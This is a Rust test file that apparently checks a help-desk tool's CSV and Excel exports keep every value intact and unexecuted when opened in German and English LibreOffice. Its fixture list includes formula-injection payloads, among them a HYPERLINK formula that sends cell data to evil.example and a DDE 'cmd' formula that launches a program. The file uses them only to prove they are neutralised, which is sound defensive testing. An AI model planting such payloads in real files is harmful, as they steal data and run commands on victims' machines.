//! Files as spreadsheets open them: every text stays the text it is, times are times, and numbers
//! are numbers, in a German and in an English LibreOffice.

use crate::support::libreoffice::{ENGLISH, GERMAN, Locale, Opened, Sheet, Value, open};
use jiff::tz::TimeZone;
use sevendesk::model::{FileFormat, Timestamp};
use sevendesk::server::table::{
    Cell, Column, FileContext, Kind, Row, TableFile, beginning, quoted_text,
};
use std::collections::BTreeMap;

/// Texts that spreadsheets like to take for something else, and some that they leave alone.
const TEXTS: [&str; 104] = [
    // Phone numbers.
    "+49 170 1234567",
    "+491701234567",
    "0049 170 1234567",
    "0170 1234567",
    "0170/1234567",
    "0170-1234567",
    "(0170) 1234567",
    "+1 (202) 555-0143",
    "202-555-0143",
    "110",
    // Leading zeros, long numbers, and ids.
    "00123",
    "0",
    "007",
    "12345678901234567890",
    "4111111111111111",
    "0.10",
    "1E5",
    "12e3",
    "123E456",
    "1d5",
    "00000000-0000-0000-0000-000000000001",
    "conv_00000001",
    "6e8",
    // Formulas.
    "=1+1",
    "=SUM(A1:A9)",
    "@SUM(A1)",
    "+1",
    "-5",
    "--1",
    "-5 %",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "=\"quoted\"",
    "  =1+1",
    "\t=1+1",
    "\u{a0}=1",
    "＝1+1",
    "＋49",
    "－5",
    "＠SUM(A1)",
    "=",
    "-",
    "- a list",
    "+ more",
    "@lea",
    // Numbers in both languages.
    "1.5",
    "1,5",
    "1.000",
    "1,000",
    "1.000,50",
    "1,000.50",
    "1 000",
    "1\u{a0}000",
    "1'000",
    "10%",
    "10 %",
    "5 €",
    "$5",
    "€ 5,00",
    "(5)",
    " 5",
    "5 ",
    "½",
    "１２３",
    "١٢٣",
    // Dates, times, and fractions.
    "3/4",
    "1 1/2",
    "1-2",
    "1.2.",
    "1.2.2026",
    "27.11.2026",
    "11/27/2026",
    "2026-11-27",
    "2026-11-27 14:05:09",
    "2026-11-27T14:05:09Z",
    "27. November 2026",
    "November 27, 2026",
    "Friday, November 27, 2026",
    "5 Mai",
    "Jan 5",
    "Mar-26",
    "12:30",
    "12:30 PM",
    "26:05:00",
    // Truth values and errors.
    "TRUE",
    "false",
    "WAHR",
    "Falsch",
    "#N/A",
    "#DIV/0!",
    // What separates cells and lines.
    "a,b;c\td",
    "\"quoted\"",
    "say \"5\"",
    "'5",
    "Müller & Söhne <b>",
    "first line\nsecond line",
    "_x0041_",
    // Writing of all kinds.
    "Ada Okafor",
    "Żółć, naïve, Straße",
    "مرحبا 123",
    "日本語",
    "👩‍👩‍👧 1️⃣",
    "Order 66 came late again",
    "  two blanks  ",
];

/// Texts that a workbook keeps and that no CSV file can: characters that are not to be seen.
const CONTROL_CHARACTERS: [&str; 3] = ["bell\u{7}", "\u{1b}[31mred", "a\u{1}b"];

/// What CSV for Excel cannot quote: it begins a formula and has several lines.
const LINES_OF_FORMULA: [&str; 2] = ["=1+1\nsecond line", "-5\n-6"];

/// Times, and what a clock in Berlin shows: both changes of the clock, leap days, and ends of years.
const TIMES: [(&str, &str); 10] = [
    ("2026-03-29T00:59:59Z", "2026-03-29T01:59:59"),
    ("2026-03-29T01:00:00Z", "2026-03-29T03:00:00"),
    ("2026-10-25T00:59:59Z", "2026-10-25T02:59:59"),
    ("2026-10-25T01:00:00Z", "2026-10-25T02:00:00"),
    ("2026-12-31T22:59:59Z", "2026-12-31T23:59:59"),
    ("2026-12-31T23:00:00Z", "2027-01-01"),
    ("2028-02-28T23:00:00Z", "2028-02-29"),
    ("2026-11-27T13:05:09Z", "2026-11-27T14:05:09"),
    ("1970-01-01T00:00:00Z", "1970-01-01T01:00:00"),
    ("2026-05-04T10:00:00Z", "2026-05-04T12:00:00"),
];

const NUMBERS: [f64; 7] = [0.0, 1.5, -5.0, 0.1, 1_000.0, 1_234_567.25, 4_711.0];

/// Seconds, and what a spreadsheet makes of them.
const DURATIONS: [(i64, &str); 5] = [
    (0, "PT00H00M00S"),
    (59, "PT00H00M59S"),
    (3_600, "PT01H00M00S"),
    (93_909, "PT26H05M09S"),
    (3_600_000, "PT1000H00M00S"),
];

const SPREADSHEETS: [FileFormat; 3] =
    [FileFormat::ExcelGerman, FileFormat::ExcelEnglish, FileFormat::Workbook];

fn context() -> FileContext {
    FileContext {
        zone: TimeZone::get("Europe/Berlin").unwrap(),
        origin: "https://desk.example.com".to_owned(),
    }
}

async fn draw(format: FileFormat, columns: &[Column], rows: Vec<Row>) -> Vec<u8> {
    let mut file = TableFile::new(format, "cases", columns, context()).unwrap();
    rows.into_iter().for_each(|row| file.add(row));
    let mut bytes = beginning(format).as_bytes().to_vec();
    bytes.extend(file.take_chunk());
    bytes.extend(file.finish().await.unwrap());
    bytes
}

/// Draws a column of cells in every format.
async fn draw_all(kind: Kind, cells: Vec<Cell>) -> BTreeMap<&'static str, Vec<u8>> {
    let columns = [Column::new("case", Kind::Text), Column::new("value", kind)];
    let mut files = BTreeMap::new();
    for format in FileFormat::ALL {
        let rows = cells.iter().map(|cell| vec![Cell::from("case"), cell.clone()]).collect();
        files.insert(name(format), draw(format, &columns, rows).await);
    }
    files
}

fn name(format: FileFormat) -> &'static str {
    match format {
        FileFormat::Programs => "programs.csv",
        FileFormat::ExcelGerman => "excel-de.csv",
        FileFormat::ExcelEnglish => "excel-en.csv",
        FileFormat::Workbook => "workbook.xlsx",
    }
}

/// Opens files in both languages, at the same time.
async fn open_in_both(
    files: BTreeMap<&'static str, Vec<u8>>,
) -> [(Locale, BTreeMap<String, Sheet>); 2] {
    let opening = [GERMAN, ENGLISH].map(|locale| {
        let files = files.clone();
        tokio::task::spawn_blocking(move || (locale, open(locale, &files)))
    });
    let [german, english] = opening;
    [german.await.unwrap(), english.await.unwrap()]
}

/// Returns the second cell of each row below the names of the columns.
fn values(sheet: &Sheet) -> Vec<Opened> {
    let empty = Opened { value: Value::Empty, formula: None, link: None };
    let value = |row: &Vec<Opened>| row.get(1).unwrap_or(&empty).clone();
    sheet.iter().skip(1).map(value).collect()
}

/// Whether a formula is nothing but texts in quotes.
fn is_constant(formula: &str) -> bool {
    let quoted = formula.strip_prefix("of:=").unwrap_or_default().replace("\"\"", "");
    let parts = quoted.split('&').map(|part| part.trim_matches('"').len() + 2 == part.len());
    let in_quotes = quoted.split('"').skip(1).step_by(2).count();
    parts.count() >= 1
        && quoted.split('"').step_by(2).all(|between| ["", "&"].contains(&between))
        && in_quotes > 0
}

fn at(iso: &str) -> Timestamp {
    Timestamp(iso.parse::<jiff::Timestamp>().unwrap().as_second())
}

#[tokio::test]
async fn every_text_stays_the_text_it_is_in_each_format_for_spreadsheets() {
    let long = ["=".to_owned() + &"1".repeat(300), "0".repeat(600), "\"".repeat(260) + "1"];
    let texts: Vec<String> = TEXTS.into_iter().map(str::to_owned).chain(long).collect();
    let cells = texts.iter().map(|text| Cell::from(text.as_str())).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Text, cells).await).await {
        for format in SPREADSHEETS {
            let found = values(&opened[name(format)]);
            assert_eq!(found.len(), texts.len(), "{format:?} in {}", locale.name);
            for (text, cell) in texts.iter().zip(found) {
                let about = format!("“{text}” in {format:?}, opened in {}", locale.name);
                assert_eq!(cell.value, Value::Text(text.clone()), "{about}");
                let is_text = cell.formula.as_deref().is_none_or(is_constant);
                assert!(is_text, "{about}: {:?}", cell.formula);
                assert!(format != FileFormat::Workbook || cell.formula.is_none(), "{about}");
            }
        }
    }
}

#[tokio::test]
async fn no_text_becomes_a_formula_in_the_file_for_programs_either() {
    let texts = TEXTS.into_iter().chain(LINES_OF_FORMULA);
    let cells = texts.clone().map(Cell::from).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Text, cells).await).await {
        let found = values(&opened[name(FileFormat::Programs)]);
        for (text, cell) in texts.clone().zip(found) {
            assert_eq!(cell.formula, None, "“{text}” opened in {}", locale.name);
        }
    }
}

#[tokio::test]
async fn what_cannot_be_quoted_in_csv_gets_an_apostrophe_and_is_exact_in_a_workbook() {
    let texts = LINES_OF_FORMULA.into_iter().chain(CONTROL_CHARACTERS);
    let cells = texts.clone().map(Cell::from).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Text, cells).await).await {
        let found = values(&opened[name(FileFormat::Workbook)]);
        for (text, cell) in texts.clone().zip(found) {
            assert_eq!(cell.value, Value::Text(text.to_owned()), "{}", locale.name);
        }
        for format in [FileFormat::ExcelGerman, FileFormat::ExcelEnglish] {
            let found = values(&opened[name(format)]);
            for (text, cell) in LINES_OF_FORMULA.into_iter().zip(found) {
                let expected =
                    Opened { value: Value::Text(format!("'{text}")), formula: None, link: None };
                assert_eq!(cell, expected, "{format:?} in {}", locale.name);
            }
        }
    }
}

#[tokio::test]
async fn a_time_is_a_date_on_the_teams_clock_in_each_format_for_spreadsheets() {
    let cells = TIMES.into_iter().map(|(utc, _)| Cell::Instant(at(utc))).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Instant, cells).await).await {
        for format in SPREADSHEETS {
            let sheet = &opened[name(format)];
            let heading = Value::Text("value (Europe/Berlin)".to_owned());
            assert_eq!(sheet[0][1].value, heading, "{format:?}");
            for ((utc, local), cell) in TIMES.into_iter().zip(values(sheet)) {
                let expected = Value::Date(local.to_owned());
                assert_eq!(cell.value, expected, "{utc}, {format:?} in {}", locale.name);
            }
        }
    }
}

#[tokio::test]
async fn a_number_is_a_number_in_a_workbook_and_in_the_csv_of_its_language() {
    let cells = NUMBERS.into_iter().map(Cell::Number).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Number, cells).await).await {
        let csv = if locale == GERMAN { FileFormat::ExcelGerman } else { FileFormat::ExcelEnglish };
        for format in [csv, FileFormat::Workbook] {
            for (number, cell) in NUMBERS.into_iter().zip(values(&opened[name(format)])) {
                let expected = Value::Number(number);
                assert_eq!(cell.value, expected, "{format:?} in {}", locale.name);
            }
        }
    }
}

#[tokio::test]
async fn a_duration_is_a_number_of_hours_however_many() {
    let cells = DURATIONS.into_iter().map(|(seconds, _)| Cell::Duration(seconds)).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Duration, cells).await).await {
        for format in SPREADSHEETS {
            let found = values(&opened[name(format)]);
            for ((seconds, time), cell) in DURATIONS.into_iter().zip(found) {
                let expected = Value::Time(time.to_owned());
                assert_eq!(cell.value, expected, "{seconds} s, {format:?} in {}", locale.name);
            }
        }
    }
}

#[tokio::test]
async fn a_link_is_its_text_and_leads_to_its_page_from_a_workbook() {
    let link =
        |text: &str| Cell::Link { text: text.to_owned(), path: "/conversations/c_1".to_owned() };
    let texts = ["conv_1", "=1+1", "00123"];
    let cells = texts.into_iter().map(link).chain([Cell::Empty]).collect();

    for (locale, opened) in open_in_both(draw_all(Kind::Link, cells).await).await {
        for format in SPREADSHEETS {
            let found = values(&opened[name(format)]);
            assert!(found.get(3).is_none_or(|cell| cell.value == Value::Empty));
            for (text, cell) in texts.into_iter().zip(found) {
                assert_eq!(
                    cell.value,
                    Value::Text(text.to_owned()),
                    "{format:?} in {}",
                    locale.name
                );
                let address = "https://desk.example.com/conversations/c_1".to_owned();
                let leads = (format == FileFormat::Workbook).then_some(address);
                assert_eq!(cell.link, leads, "{format:?} in {}", locale.name);
            }
        }
    }
}

#[test]
fn only_what_excel_would_change_is_quoted() {
    for text in
        ["Ada Okafor", "conv_1", "ada@example.com", "Order 66 came late again", "", "日本語"]
    {
        assert_eq!(quoted_text(text), text);
    }
    assert_eq!(quoted_text("0049"), "=\"0049\"");
    assert_eq!(quoted_text("=A1&\"x\""), "=\"=A1&\"\"x\"\"\"");
    let long = quoted_text(&"0".repeat(600)).into_owned();
    assert_eq!(long.split('&').map(str::len).max(), Some(253), "a constant has 255 units at most");
}
